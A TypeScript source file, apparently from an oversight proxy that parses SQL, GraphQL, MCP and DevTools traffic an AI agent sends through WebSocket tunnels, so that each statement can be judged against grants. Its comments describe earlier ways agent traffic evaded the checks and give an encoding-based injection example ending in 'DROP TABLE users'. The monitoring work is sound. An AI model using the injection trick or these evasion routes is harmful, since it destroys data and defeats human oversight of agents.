// SQL carried inside a WebSocket tunnel, read in the protocol the agent really speaks, so each
// statement can be described as its HTTP twin and decided like it (proxy/tunnel-sql.ts):
//
// - the PostgreSQL wire protocol (Neon's serverless driver's Pool/Client over wss://{endpoint}/v2,
//   any WebSocket-to-TCP bridge such as neondatabase/wsproxy): the agent's messages, binary or
//   text, are one byte stream to the server, whatever the frame boundaries. The stream is read as
//   the server reads it (src/backend/tcop/postgres.c, postmaster's startup packet): a startup
//   packet, then typed frontend messages `type int32(length) payload`. A Query ('Q') is judged
//   when its last byte arrives; a Parse ('P') too (any statement that can exist on the server was
//   judged as text); a Bind ('B') with values once more, its statement's text with the values
//   bound. What cannot be read is refused: an SSL or GSSAPI encryption request (TLS inside the
//   tunnel), a replication connection, a FunctionCall ('F', a function by OID), an unknown
//   message type, a Bind naming a statement no Parse showed (SQL-level PREPARE), a message longer
//   than the reader keeps. Settings in the startup packet (`options=-c …` and any other parameter
//   the server takes as a setting) are judged as the `SET` statements they are.
// - libSQL's Hrana over WebSocket (Turso; subprotocols hrana1–3): JSON text messages
//   `{type: "request", request: {type: "execute" | "batch" | "sequence" | "store_sql", …}}`, each
//   judged as the same request in Hrana's HTTP pipeline (`{requests: [request]}`), a stored
//   statement (`sql_id`) by the text stored under it. Binary messages (hrana3-protobuf) and text
//   that is not a JSON object are refused.
// - GraphQL over WebSocket (subprotocols graphql-transport-ws, graphql-ws: Hasura, Apollo, Yoga):
//   each `subscribe`/`start` payload judged as the same `{query, variables}` POSTed to the tunnel's
//   URL (mutations run over these sockets as well as subscriptions).
// - MCP over WebSocket (the `mcp` subprotocol, or any JSON tunnel): each JSON-RPC message naming an
//   MCP method that acts (`tools/call`, `resources/read`, …; alone or in a batch) judged as the same message
//   POSTed to the tunnel's URL, as the Streamable HTTP transport sends it (eighteenth pass: a tool
//   call an MCP server's POST would have held was relayed undecided over its WebSocket).
// - The Chrome DevTools Protocol (a remote browser's WebSocket: Browserless, a Playwright or
//   Puppeteer server, Chrome's `/devtools/browser/…`): a command that has the browser load a URL it
//   names (`Page.navigate`, `Target.createTarget`, …) judged as the GET of that URL (nineteenth pass).
//
// A tunnel is read as PostgreSQL when the first 8 bytes the agent sends are a startup, SSL,
// GSSAPI or cancel packet (a server refuses any other start) or a plausible Query/Parse (a bridge
// that opens the session itself), and as Hrana when the upstream chose a `hrana` subprotocol or
// the first message is a Hrana `hello`. MongoDB's (describe/tunnel-mongo.ts) when its first 16
// bytes are a request header, Redis's (tunnel-redis.ts), MySQL's and TDS's by their own starts.
// Other tunnels are not read here.

import { createHash } from 'node:crypto';
import { appendAll } from '../lib/arrays.ts';
import { startsStatement, trimTrailing, trimWhere } from '../lib/text.ts';
import { scanJson } from './json-readings.ts';
import { attributeUrls, codeReading, functionRead, type CodeReading, codeUrls, computedLoad, callsRemoteObject, markupParts, MAX_CODE_URLS, relativeUrl, styleLoadsRelative, URL_ATTRIBUTES, withoutSourcePragma } from './cdp-code.ts';
import { consoleRead, mysqlCommandLine, otherConsoleLine } from './console-lines.ts';
import { unreadSqlEffect } from './adapters/sql-clickhouse.ts';
import { reachesOutside, sqlPrefixState } from './adapters/sql.ts';
import { lookupTable } from '../lib/records.ts';
import { credentialFieldName } from './describe.ts';

/** A statement the tunnel carries, as the body its HTTP twin would send. */
export interface CarriedStatement {
  /**
   * `pg`: `{query, params?}` as Neon's `/sql` takes it; `hrana`: one request of Hrana's HTTP
   * pipeline; `graphql`: an operation's payload; `json`: a JSON message of another protocol, as sent;
   * `mcp`: an MCP message (JSON-RPC naming an MCP method), as sent.
   */
  protocol: 'postgresql' | 'hrana' | 'graphql' | 'json' | 'mysql' | 'mssql' | 'mcp' | 'cdp' | 'dns';
  body: Record<string, unknown>;
  /** `cdp`: the URL the browser is told to load, judged as its GET (no body, no twin POSTed); `dns`: the host a query names. */
  target?: string;
  /** `cdp`: the code sends a write there (judged as a POST, its body not known). */
  writes?: boolean;
  /** The message's own bytes, POSTed as they are (`json`: duplicate keys and all, read as HTTP bodies are). */
  raw?: Buffer;
  /** Headers the server takes from the session rather than the message (GraphQL's `connection_init` payload). */
  headers?: Array<[string, string]>;
  /** What carried it (`Q`, `P`, `B`, `startup`, `execute`, …), for the audit record. */
  message: string;
  /** A message giving the server a credential (`signsIn`): judged as an authenticated GET of the tunnel's URL, whose answers are that account's. */
  signIn?: true;
  /** A read of the tunnel's own upstream (withDatabaseRead): its labels keep the tunnel current. */
  ownRead?: true;
}

export interface TunnelRead {
  statements: CarriedStatement[];
  /** Why the rest of the tunnel cannot be read: it is closed. */
  refused?: string;
}

export interface TunnelSqlReader {
  readonly protocol: 'postgresql' | 'hrana' | 'graphql' | 'json' | 'mysql' | 'mssql';
  /** Bytes kept of what is not yet whole. */
  readonly holding?: number;
  /**
   * The tunnel authenticated in its own messages (a Hrana `hello` with a JWT, a GraphQL
   * `connection_init` with a payload: Hasura's headers, Apollo's authToken), not in the upgrade's
   * head: its statements act as that account, as their twins would with an Authorization header.
   */
  readonly credentialed?: boolean;
  read(data: Buffer, binary: boolean): TunnelRead;
}

/**
 * Longest Query or Parse kept to be read (SQL past 1 MiB is not parsed anyway: MAX_SQL_BYTES), and
 * longest Bind (its values are judged with it: a large value passes only whole). What a tunnel
 * keeps counts against its agent's budget of unfinished messages. PostgreSQL itself allows 1 GB.
 */
export const MAX_PG_MESSAGE = 1024 * 1024 + 64 * 1024;
export const MAX_PG_BIND = 16 * 1024 * 1024;
/** Statements one read may complete (a flood of empty Queries packed into one message is refused). */
export const MAX_STATEMENTS_PER_READ = 1000;
/** Prepared statements remembered per connection (named ones are kept; more is refused). */
const MAX_PREPARED = 10_000;
const MAX_PREPARED_BYTES = 32 * 1024 * 1024;
/** Bytes of the startup packet the server reads at most (MAX_STARTUP_PACKET_LENGTH). */
const MAX_STARTUP = 10_000;

const SSL_REQUEST = 80877103;
const GSSENC_REQUEST = 80877104;
const CANCEL_REQUEST = 80877102;

/** Frontend message types the server reads after the startup; anything else ends the session there. */
const knownTypes = new Set(['Q', 'P', 'B', 'E', 'D', 'C', 'S', 'H', 'X', 'p', 'd', 'c', 'f', 'F']);

/** Startup parameters that are not settings (everything else the server applies as a GUC). */
const notSettings = new Set(['user', 'database', 'options', 'replication']);
/**
 * Settings that only shape how answers are written (drivers send them in every startup: pgJDBC
 * DateStyle, TimeZone, extra_float_digits; psql application_name): not judged. client_encoding
 * is not judged either but must be UTF-8 (clientEncodingProblem).
 */
const formatting = new Set(['application_name', 'fallback_application_name', 'datestyle', 'timezone', 'extra_float_digits', 'intervalstyle', 'client_encoding']);

/**
 * Why a client_encoding cannot be allowed, or undefined for UTF-8. Airlock reads statements as
 * UTF-8; the server decodes them in the client encoding, and in SJIS, BIG5, GBK, UHC, GB18030 a
 * backslash or quote byte can end a multibyte character, so a statement Airlock reads as one string
 * holds another statement for the server (`E'\x95\'; DROP TABLE users; --'`).
 */
export function clientEncodingProblem(value: string): string | undefined {
  const v = value.replace(/^["']|["']$/g, '').replace(/[-_\s]/g, '').toLowerCase();
  return v === 'utf8' || v === 'unicode' ? undefined : `client_encoding ${JSON.stringify(value.slice(0, 40))}: statements in the tunnel are read as UTF-8, and only UTF-8 is allowed`;
}

/** Whether `first` (at least 8 bytes of the agent's stream) starts the PostgreSQL protocol. */
export function startsPostgres(first: Buffer): boolean {
  if (first.length < 8) return false;
  const len = first.readInt32BE(0);
  const code = first.readInt32BE(4);
  // The server takes these at any length a startup packet may have (an SSLRequest of 12 bytes is
  // answered 'N' and the plain startup after it read): the reader refuses or ends on them.
  if (code === SSL_REQUEST || code === GSSENC_REQUEST || code === CANCEL_REQUEST) return len >= 8 && len <= MAX_STARTUP + 4;
  // A startup of any protocol version: the server refuses the ones it does not speak.
  if (len >= 8 && len <= MAX_STARTUP + 4 && code >>> 16 >= 1 && code >>> 16 <= 3) return true;
  // A bridge that opened the session itself: the stream starts at any frontend message (a Query,
  // a Parse, but also a Sync or Flush first, or a FunctionCall, which the reader refuses).
  const t = String.fromCharCode(first[0]!);
  const mlen = first.readUInt32BE(1);
  if (t === 'Q' || t === 'P') return mlen >= 5 && mlen < 0x40000000;
  return knownTypes.has(t) && mlen >= 4 && mlen < 0x1000000;
}

/** Whether the 8 bytes that started the stream are a typed message (a session a bridge opened), not a startup packet. */
export function startsWithMessage(first: Buffer): boolean {
  return first.length >= 1 && knownTypes.has(String.fromCharCode(first[0]!));
}

/** Whether a first text message is a Hrana `hello` (libSQL's server requires it first). */
export function startsHrana(text: string): boolean {
  if (!/^\s*\{/.test(text)) return false;
  try {
    const o = JSON.parse(text) as { type?: unknown };
    return !!o && typeof o === 'object' && o.type === 'hello';
  } catch {
    return false;
  }
}

/**
 * Whether a first text message opens GraphQL over WebSocket without a subprotocol (a server that
 * falls back to `graphql-ws` when none is negotiated, as Hasura's does): a JSON object whose `type`
 * is `connection_init`, or an operation already (`subscribe`, `start`).
 */
export function startsGraphqlWs(text: string): boolean {
  if (!/^\s*\{/.test(text)) return false;
  try {
    const o = JSON.parse(text) as { type?: unknown };
    return !!o && typeof o === 'object' && (o.type === 'connection_init' || o.type === 'subscribe' || o.type === 'start');
  } catch {
    return false;
  }
}

/** Reads the bytes one side of a PostgreSQL connection sends, as the server does. */
export class PgFrontendReader implements TunnelSqlReader {
  readonly protocol = 'postgresql';
  private chunks: Buffer[] = [];
  private buffered = 0;
  /** Bytes of a message that need not be kept (CopyData, a password) still to come. */
  private skip = 0;
  private state: 'startup' | 'messages' | 'ended' = 'startup';
  private refusedWhy: string | undefined;
  /**
   * The statements each name ('' is the unnamed one) may hold on the server. The server refuses a
   * Parse under a name it holds (until a Close), keeping the older statement, and the client may
   * Bind it after the next Sync: so a name keeps every text a Parse gave it since its last Close.
   */
  private readonly prepared = new Map<string, Prepared[]>();
  private preparedBytes = 0;
  /**
   * A message since the last Sync may have failed, so the server may be discarding what follows
   * until the next Sync: `Parse 'x' (SELECT … FROM a missing table); Close 's'; Parse 's' (SELECT
   * $1); Sync` leaves `s` the DELETE it was, and the next Bind runs that with its values.
   */
  private mayBeSkipping = false;
  /** A text in this tunnel may have run SQL's PREPARE, which names statements Airlock does not follow. */
  private sqlPrepare = false;
  /**
   * Which database the session is in and as whom (the startup packet's `database` and `user`), as
   * headers of each statement's twin (twenty-fifth pass): `DELETE FROM notes WHERE id = 1` is another
   * statement in another database of the same server, and a grant given in one covers no other.
   */
  private session: Array<[string, string]> | undefined;
  /**
   * The settings that change what a statement acts on or as whom (`search_path`, `role`, `session
   * authorization`), as the session's statements left them: the startup's, then each plain `SET` or
   * `RESET`. A text that may change one otherwise (`set_config(…)`, a `SET` beside other statements)
   * makes them unknown (`?`): no grant covers what follows (twenty-fifth pass).
   */
  private settings = new Map<string, string>();
  private settingsUnknown = false;

  /** The statement with the session's headers as they are before it runs; then what it sets is followed. */
  private carried(st: CarriedStatement, text: string): CarriedStatement {
    if (this.session) {
      const settings = this.settingsUnknown ? '?' : this.settings.size ? `sha256-${createHash('sha256').update(JSON.stringify([...this.settings].sort())).digest('hex').slice(0, 32)}` : undefined;
      st.headers = [...(st.headers ?? []), ...this.session, ...(settings ? [['x-postgres-database-settings', settings] as [string, string]] : [])];
    }
    this.followSettings(text);
    return st;
  }

  private followSettings(text: string): void {
    if (!sessionSetting(text)) return;
    // One statement: blanks and a last `;` aside.
    const t = trimWhere(trimTrailing(text.trim(), ';'), (c) => /\s/.test(c));
    const set = plainSet.exec(t);
    const reset = set ? undefined : plainReset.exec(t);
    if (set) this.settings.set(settingName(set[1]!), set[2]!.trim().toLowerCase());
    else if (reset && /^all$/i.test(reset[1]!)) this.settings.clear();
    else if (reset) this.settings.delete(settingName(reset[1]!));
    else this.settingsUnknown = true;
  }

  /** Longest Bind read (MAX_PG_BIND unless the caller reads less of a request). */
  private readonly maxBind: number;

  constructor(opts: { sessionOpen?: boolean; maxBind?: number } = {}) {
    if (opts.sessionOpen) this.state = 'messages';
    this.maxBind = Math.min(opts.maxBind ?? MAX_PG_BIND, MAX_PG_BIND);
  }

  /**
   * Bytes kept: of messages not yet whole, and the texts of prepared statements (counted with the
   * tunnel's unfinished messages against its agent's budget: 32 MiB of texts per tunnel, over
   * hundreds of tunnels, was no bound).
   */
  get holding(): number {
    return this.buffered + this.preparedBytes;
  }

  read(data: Buffer): TunnelRead {
    const out: CarriedStatement[] = [];
    if (this.refusedWhy) return { statements: out, refused: this.refusedWhy };
    let rest = data;
    if (this.skip) {
      const n = Math.min(this.skip, rest.length);
      this.skip -= n;
      rest = rest.subarray(n);
    }
    if (rest.length) {
      this.chunks.push(rest);
      this.buffered += rest.length;
    }
    try {
      this.drain(out);
    } catch (err) {
      this.refusedWhy = (err as Error).message;
    }
    return this.refusedWhy ? { statements: out, refused: this.refusedWhy } : { statements: out };
  }

  private peek(n: number): Buffer | undefined {
    if (this.buffered < n) return undefined;
    if (this.chunks[0]!.length < n) this.chunks = [Buffer.concat(this.chunks)];
    return this.chunks[0]!.subarray(0, n);
  }

  private take(n: number): Buffer {
    const head = this.peek(n)!;
    const copy = Buffer.from(head);
    this.consume(n);
    return copy;
  }

  private consume(n: number): void {
    this.buffered -= n;
    while (n > 0) {
      const c = this.chunks[0]!;
      if (c.length <= n) {
        this.chunks.shift();
        n -= c.length;
      } else {
        this.chunks[0] = c.subarray(n);
        n = 0;
      }
    }
  }

  private drain(out: CarriedStatement[]): void {
    for (;;) {
      if (this.state === 'ended') {
        if (this.buffered) throw new Error('PostgreSQL bytes after a cancel request or a Terminate');
        return;
      }
      if (this.state === 'startup') {
        const head = this.peek(8);
        if (!head) return;
        const len = head.readInt32BE(0);
        const code = head.readInt32BE(4);
        if (code === SSL_REQUEST) throw new Error('the PostgreSQL client asked for TLS inside the tunnel (SSLRequest): encrypted statements cannot be read; connect without it (Neon\'s driver does by default)');
        if (code === GSSENC_REQUEST) throw new Error('the PostgreSQL client asked for GSSAPI encryption inside the tunnel: encrypted statements cannot be read');
        if (len < 8 || len > MAX_STARTUP + 4) throw new Error('invalid length of a PostgreSQL startup packet');
        if (this.buffered < len) return;
        const packet = this.take(len);
        if (code === CANCEL_REQUEST) {
          this.state = 'ended';
          continue;
        }
        if (code >>> 16 !== 3) throw new Error(`PostgreSQL frontend protocol ${code >>> 16}.${code & 0xffff} is not read (only 3.x)`);
        this.session = sessionHeaders('postgres', startupIdentity(packet.subarray(8)));
        const settings = startupSettings(packet.subarray(8));
        if (settings.length) out.push(this.carried({ protocol: 'postgresql', message: 'startup', body: { query: settings.join('; ') } }, ''));
        for (const one of settings) this.followSettings(one);
        this.state = 'messages';
        continue;
      }
      const head = this.peek(5);
      if (!head) return;
      const type = String.fromCharCode(head[0]!);
      const len = head.readUInt32BE(1);
      if (!knownTypes.has(type)) throw new Error(`unknown PostgreSQL frontend message type 0x${head[0]!.toString(16)}`);
      if (len < 4) throw new Error('invalid PostgreSQL message length');
      if (type === 'F') throw new Error('a PostgreSQL FunctionCall (a function called by its OID) cannot be judged');
      const kept = type === 'Q' || type === 'P' || type === 'B' || type === 'X' || type === 'C';
      // After an error in an extended-query message the server discards every message until Sync:
      // from the first that may fail, a Close or an unnamed Parse may never happen (twenty-first pass).
      if (type === 'S') this.mayBeSkipping = false;
      else if (type === 'E' || type === 'D') this.mayBeSkipping = true;
      if (!kept) {
        // Not SQL (CopyData, Sync, Execute, a password …): passed on without being kept.
        const have = Math.min(this.buffered, len + 1);
        this.consume(have);
        this.skip = len + 1 - have;
        if (this.skip) return;
        continue;
      }
      if (out.length >= MAX_STATEMENTS_PER_READ) throw new Error(`more than ${MAX_STATEMENTS_PER_READ} PostgreSQL statements in one message`);
      const max = type === 'B' ? this.maxBind : MAX_PG_MESSAGE;
      if (len + 1 > max) throw new Error(`a PostgreSQL ${type} message of ${len + 1} bytes is longer than Airlock reads (${max})`);
      if (this.buffered < len + 1) return;
      const m = this.take(len + 1).subarray(5);
      if (type === 'X') {
        this.state = 'ended';
        continue;
      }
      if (type === 'Q') {
        const query = cstring(m, 0).text;
        this.notePrepare(query);
        out.push(this.carried({ protocol: 'postgresql', message: 'Q', body: { query } }, query));
      } else if (type === 'P') {
        const parsed = this.parse(m);
        out.push(this.carried(parsed, String(parsed.body?.query ?? '')));
      } else if (type === 'C') this.close(m);
      else appendAll(out, this.bind(m).map((b) => this.carried(b, '')));
      if (type === 'P' || type === 'B') this.mayBeSkipping = true;
    }
  }

  /**
   * SQL's PREPARE makes statements in the namespace Parse and Bind use. A word `prepare` anywhere in
   * a text (also in a string a DO block or a function may EXECUTE) marks the tunnel.
   */
  private notePrepare(text: string): void {
    if (!this.sqlPrepare && /\bprepare\b/i.test(text)) this.sqlPrepare = true;
  }

  private parse(m: Buffer): CarriedStatement {
    const name = cstring(m, 0);
    const query = cstring(m, name.end);
    this.notePrepare(query.text);
    // The parameter types the Parse names (0: the server infers it), for reading binary values.
    const types: number[] = [];
    let at = query.end;
    const ntypes = at + 2 <= m.length ? m.readUInt16BE(at) : 0;
    at += 2;
    for (let i = 0; i < ntypes && at + 4 <= m.length; i++, at += 4) types.push(m.readUInt32BE(at));
    const before = this.prepared.get(name.text);
    if (before === undefined && this.prepared.size >= MAX_PREPARED) throw new Error(`more than ${MAX_PREPARED} prepared statements on one connection`);
    // The unnamed statement is dropped before the server parses the next one; a named one stays
    // if the server refuses the new Parse (the name is taken), so both may answer a Bind.
    // Neither when the server may be discarding the Parse (an earlier message since the Sync failed).
    const kept = name.text === '' && !this.mayBeSkipping ? [] : (before ?? []).filter((p) => p.text !== query.text || p.types.join() !== types.join());
    if (kept.length >= MAX_TEXTS_PER_NAME) throw new Error(`a PostgreSQL statement name parsed with more than ${MAX_TEXTS_PER_NAME} texts and no Close: which one the server holds is not known`);
    for (const p of before ?? []) this.preparedBytes -= p.text.length;
    const now = [...kept, { text: query.text, types }];
    for (const p of now) this.preparedBytes += p.text.length;
    this.prepared.set(name.text, now);
    if (this.preparedBytes > MAX_PREPARED_BYTES) throw new Error('prepared statements on one connection hold more text than Airlock keeps');
    return { protocol: 'postgresql', message: 'P', body: { query: query.text } };
  }

  /** Close of a statement ('S'): the server forgets the name (a Close of a portal changes nothing here). */
  private close(m: Buffer): void {
    // A Close the server may discard (an earlier message since the Sync failed) forgets nothing.
    if (m[0] !== 0x53 || this.mayBeSkipping) return;
    const name = cstring(m, 1).text;
    for (const p of this.prepared.get(name) ?? []) this.preparedBytes -= p.text.length;
    this.prepared.delete(name);
  }

  /**
   * A Bind with values: its statement's text judged again with them bound, once for every text the
   * name may hold, and once for every way the server may read a binary value whose type the Parse
   * left to it (text, or an integer or float of its width: `id > $1` with the int8 -10^12).
   */
  private bind(m: Buffer): CarriedStatement[] {
    const portal = cstring(m, 0);
    const stmt = cstring(m, portal.end);
    const texts = this.prepared.get(stmt.text);
    // Named by SQL's PREPARE, which Airlock judged as text but whose body it does not follow.
    if (texts === undefined) throw new Error(`a Bind to the prepared statement ${JSON.stringify(stmt.text.slice(0, 60))}, which no Parse in this tunnel defined`);
    // A PREPARE may have taken the name first: the server then refused the Parse and binds the PREPARE's.
    if (stmt.text !== '' && this.sqlPrepare) throw new Error(`a Bind to the prepared statement ${JSON.stringify(stmt.text.slice(0, 60))} in a tunnel where SQL's PREPARE may have defined it`);
    let at = stmt.end;
    const nformats = m.readUInt16BE(at);
    at += 2;
    const formats: number[] = [];
    for (let i = 0; i < nformats; i++, at += 2) formats.push(m.readUInt16BE(at));
    const nparams = m.readUInt16BE(at);
    at += 2;
    // Without values it runs a text its Parse was judged by: decided again all the same, as each
    // Bind is one more execution (a prepared statement run a thousand times pays a thousand times).
    if (nparams === 0) return texts.map((p) => ({ protocol: 'postgresql', message: 'B', body: { query: p.text } }));
    const values: Array<Buffer | null> = [];
    for (let i = 0; i < nparams; i++) {
      const n = m.readInt32BE(at);
      at += 4;
      if (n < 0) {
        values.push(null);
        continue;
      }
      if (at + n > m.length) throw new Error('a PostgreSQL Bind message shorter than its values');
      values.push(m.subarray(at, at + n));
      at += n;
    }
    const out: CarriedStatement[] = [];
    const seen = new Set<string>();
    for (const p of texts) {
      for (const params of boundReadings(values, (i) => (nformats === 1 ? formats[0] : formats[i]) === 1, p.types)) {
        const key = JSON.stringify([p.text, params]);
        if (seen.has(key)) continue;
        seen.add(key);
        out.push({ protocol: 'postgresql', message: 'B', body: { query: p.text, params } });
      }
    }
    return out;
  }
}

interface Prepared {
  text: string;
  /** Parameter type OIDs the Parse gave (0 or missing: inferred by the server). */
  types: number[];
}

/** Texts a statement name may hold at once (each Parse under it without a Close adds one). */
const MAX_TEXTS_PER_NAME = 8;

/** Type OIDs whose binary form Airlock reads (pg_type.h). */
const OID = { bool: 16, bytea: 17, name: 19, int8: 20, int2: 21, int4: 23, text: 25, oid: 26, json: 114, xml: 142, float4: 700, float8: 701, unknown: 705, bpchar: 1042, varchar: 1043, jsonb: 3802 } as const;
const textTypes = new Set<number>([OID.name, OID.text, OID.json, OID.xml, OID.unknown, OID.bpchar, OID.varchar]);

const hexOf = (b: Buffer): string => `\\x${b.toString('hex')}`;
const asText = (b: Buffer): string => (isUtf8(b) ? b.toString('utf8') : hexOf(b));

/** A binary value as the type its OID names; undefined when the type is not one read here. */
function binaryAs(b: Buffer, oid: number): string | number | undefined {
  if (textTypes.has(oid)) return asText(b);
  if (oid === OID.bytea) return hexOf(b);
  if (oid === OID.jsonb) return asText(b.subarray(1));
  if (oid === OID.bool && b.length === 1) return b[0] ? 'true' : 'false';
  if (oid === OID.int2 && b.length === 2) return b.readInt16BE(0);
  if (oid === OID.int4 && b.length === 4) return b.readInt32BE(0);
  if (oid === OID.oid && b.length === 4) return b.readUInt32BE(0);
  if (oid === OID.int8 && b.length === 8) return Number(b.readBigInt64BE(0));
  if (oid === OID.float4 && b.length === 4) return b.readFloatBE(0);
  if (oid === OID.float8 && b.length === 8) return b.readDoubleBE(0);
  return undefined;
}

/** The ways the server may read a binary value of a type it infers: as text, and as an integer or float of its width. */
function binaryReadings(b: Buffer): Array<string | number> {
  const r: Array<string | number> = [asText(b)];
  if (b.length === 2) r.push(b.readInt16BE(0));
  if (b.length === 4) r.push(b.readInt32BE(0), b.readFloatBE(0));
  if (b.length === 8) r.push(Number(b.readBigInt64BE(0)), b.readDoubleBE(0));
  return r.map((v) => (typeof v === 'number' && !Number.isFinite(v) ? String(v) : v));
}

/**
 * The lists of values a Bind may bind, at most three: text values as text; a binary value by the
 * type its Parse named, or, when the server infers the type, the first, second and third of its
 * readings (text, integer, float) in the first, second and third list.
 */
function boundReadings(values: Array<Buffer | null>, binary: (i: number) => boolean, types: number[]): Array<Array<string | number | null>> {
  const each = values.map((b, i): Array<string | number | null> => {
    if (b === null) return [null];
    if (!binary(i)) return [b.toString('utf8')];
    const typed = binaryAs(b, types[i] ?? 0);
    return typed !== undefined ? [typed] : binaryReadings(b);
  });
  const widest = Math.max(1, ...each.map((r) => r.length));
  const lists: Array<Array<string | number | null>> = [];
  for (let k = 0; k < widest; k++) lists.push(each.map((r) => r[Math.min(k, r.length - 1)]!));
  return lists;
}

const decoder = new TextDecoder('utf-8', { fatal: true });
function isUtf8(b: Buffer): boolean {
  try {
    decoder.decode(b);
    return true;
  } catch {
    return false;
  }
}

function cstring(m: Buffer, from: number): { text: string; end: number } {
  const nul = m.indexOf(0, from);
  if (nul < 0) throw new Error('a PostgreSQL message string without its terminator');
  return { text: m.toString('utf8', from, nul), end: nul + 1 };
}

const quoteIdent = (s: string): string => (/^[a-z_][a-z0-9_]*(\.[a-z_][a-z0-9_]*)?$/.test(s) ? s : `"${s.replace(/"/g, '""')}"`);
const quoteLiteral = (s: string): string => `'${s.replace(/'/g, "''")}'`;

/**
 * The settings a startup packet makes, as `SET` statements: every parameter but user, database,
 * options and replication (and `_pq_.` protocol options), and each `-c name=value` / `--name=value`
 * of `options` (split as pg_split_opts does: blanks, backslash escapes). A replication connection
 * (its commands are not SQL) is refused.
 */
/** The setting names (and `RESET ALL`) `sessionSetting` reads after `SET`/`RESET` (`SESSION AUTHORIZATION` by its second word). */
const followedSettings = new Set(['role', 'search_path', 'schema', 'authorization', 'all']);

/** The identifier word of `text` at `at` (blanks before it skipped), in lower case, and where it ends. */
function wordAt(text: string, at: number): { word: string; end: number } {
  let i = at;
  while (i < text.length && /\s/.test(text[i]!)) i++;
  let j = i;
  while (j < text.length && /[A-Za-z0-9_]/.test(text[j]!)) j++;
  return { word: text.slice(i, j).toLowerCase(), end: j };
}

/**
 * A text that may change a setting naming what statements act on or as whom: a `SET`/`RESET` of one
 * at a statement's start (`SET [SESSION | LOCAL] role …`, `RESET ALL`), or `set_config` anywhere.
 * Plain scans (lib/text.ts startsStatement), linear in the text.
 */
function sessionSetting(text: string): boolean {
  if (/set_config/i.test(text)) return true;
  const names = (at: number): boolean => {
    if (!/\s/.test(text[at] ?? '')) return false;
    let w = wordAt(text, at);
    if (w.word === 'session' || w.word === 'local') {
      const next = wordAt(text, w.end);
      if (next.word === 'authorization') return true;
      w = next;
    }
    return followedSettings.has(w.word);
  };
  return startsStatement(text, 'set', names) || startsStatement(text, 'reset', names);
}
/** `SET [SESSION | LOCAL] name {= | TO} value` alone: the setting and its value. */
const plainSet = /^set\s+(?:(?:session|local)\s+)?(role|search_path|schema|session\s+authorization)(?:\s*=|\s+to\b|(?=\s))([^;]+)$/i;
/** `RESET name` alone. */
const plainReset = /^reset\s+(role|search_path|schema|session\s+authorization|all)$/i;
/** One name per setting (`SET SCHEMA` sets `search_path`). */
const settingName = (name: string): string => {
  const n = name.toLowerCase().replace(/\s+/g, ' ');
  return n === 'schema' ? 'search_path' : n;
};

/** The startup packet's `user` and `database` (the server's default database is the user's name). */
function startupIdentity(p: Buffer): { user: string; database: string } {
  let user = '';
  let database: string | undefined;
  for (let at = 0; at < p.length && p[at] !== 0;) {
    const name = cstring(p, at);
    const value = cstring(p, name.end);
    at = value.end;
    if (name.text === 'user') user = value.text;
    else if (name.text === 'database') database = value.text;
  }
  return { user, database: database || user };
}

/**
 * The headers a wire session's statements carry to their twins: the database (a place, compared by
 * a grant's target) and the user (whom the statement acts as: the target's `as:`). A database the
 * session may have left by a statement Airlock does not follow is `?`: no grant covers it.
 */
export function sessionHeaders(protocol: string, who: { user?: string; database?: string }): Array<[string, string]> {
  const out: Array<[string, string]> = [];
  if (who.database !== undefined) out.push([`x-${protocol}-database`, who.database]);
  if (who.user !== undefined) out.push([`x-${protocol}-user`, who.user]);
  return out;
}

function startupSettings(p: Buffer): string[] {
  const out: string[] = [];
  let at = 0;
  for (;;) {
    if (at >= p.length) throw new Error('a PostgreSQL startup packet without its terminator');
    if (p[at] === 0) break;
    const name = cstring(p, at);
    const value = cstring(p, name.end);
    at = value.end;
    const key = name.text;
    if (key === 'replication') {
      if (!/^(false|off|no|0)$/i.test(value.text.trim())) throw new Error('a PostgreSQL replication connection: its commands are not read');
    } else if (key === 'options') {
      appendAll(out, optionSettings(value.text));
    } else if (key.toLowerCase() === 'client_encoding') {
      const problem = clientEncodingProblem(value.text);
      if (problem) throw new Error(problem);
    } else if (!notSettings.has(key) && !formatting.has(key.toLowerCase()) && !key.startsWith('_pq_.')) {
      out.push(`SET ${quoteIdent(key)} TO ${quoteLiteral(value.text)}`);
    }
  }
  return out;
}

function optionSettings(options: string): string[] {
  const words: string[] = [];
  let word = '';
  let inWord = false;
  for (let i = 0; i < options.length; i++) {
    const c = options[i]!;
    if (c === '\\' && i + 1 < options.length) {
      word += options[++i];
      inWord = true;
    } else if (/\s/.test(c)) {
      if (inWord) words.push(word);
      word = '';
      inWord = false;
    } else {
      word += c;
      inWord = true;
    }
  }
  if (inWord) words.push(word);
  const out: string[] = [];
  for (let i = 0; i < words.length; i++) {
    let w = words[i]!;
    if (w === '-c') w = words[++i] ?? '';
    else if (w.startsWith('-c')) w = w.slice(2);
    else if (w.startsWith('--')) w = w.slice(2);
    else throw new Error(`a PostgreSQL startup option that is not a setting (${JSON.stringify(w.slice(0, 40))})`);
    const eq = w.indexOf('=');
    if (eq <= 0) throw new Error(`a PostgreSQL startup option without a value (${JSON.stringify(w.slice(0, 40))})`);
    const name = w.slice(0, eq).replace(/-/g, '_');
    if (name.toLowerCase() === 'client_encoding') {
      const problem = clientEncodingProblem(w.slice(eq + 1));
      if (problem) throw new Error(problem);
    }
    out.push(`SET ${quoteIdent(name)} TO ${quoteLiteral(w.slice(eq + 1))}`);
  }
  return out;
}

/** Hrana requests that run SQL (`open_cursor` runs a batch, its results read by `fetch_cursor`). */
const runs = new Set(['execute', 'batch', 'sequence', 'store_sql', 'open_cursor']);
/** Hrana requests that run none: they open or close streams and cursors, describe, or free a stored id. */
const runsNone = new Set(['open_stream', 'close_stream', 'describe', 'close_sql', 'fetch_cursor', 'close_cursor', 'get_autocommit']);
const MAX_STORED_SQL = 10_000;
/** Text of stored statements kept per connection, at most (as for PostgreSQL's prepared statements). */
const MAX_STORED_SQL_BYTES = 32 * 1024 * 1024;

/** Reads the agent's messages of a Hrana (libSQL over WebSocket) session. */
export class HranaReader implements TunnelSqlReader {
  readonly protocol = 'hrana';
  credentialed = false;
  /** sql_id → the text store_sql gave it. */
  private readonly stored = new Map<number, string>();
  private storedBytes = 0;

  /**
   * The stored texts' length: counted with the tunnel's unfinished messages against its agent's
   * budget (10,000 texts of up to 16 MiB each were kept per tunnel, with no bound in bytes).
   */
  get holding(): number {
    return this.storedBytes;
  }

  /**
   * `maxStatement`: the longest request judged. A stored text is put in place of its id in the
   * request judged: 3,000 batch steps naming one 200 KB text made a twin of 600 MB (8 s of the
   * event loop, every agent's, and 800 MB of memory) from a message of 60 KB.
   */
  constructor(private readonly subprotocol: string, private readonly maxStatement = Infinity) {}

  read(data: Buffer, binary: boolean): TunnelRead {
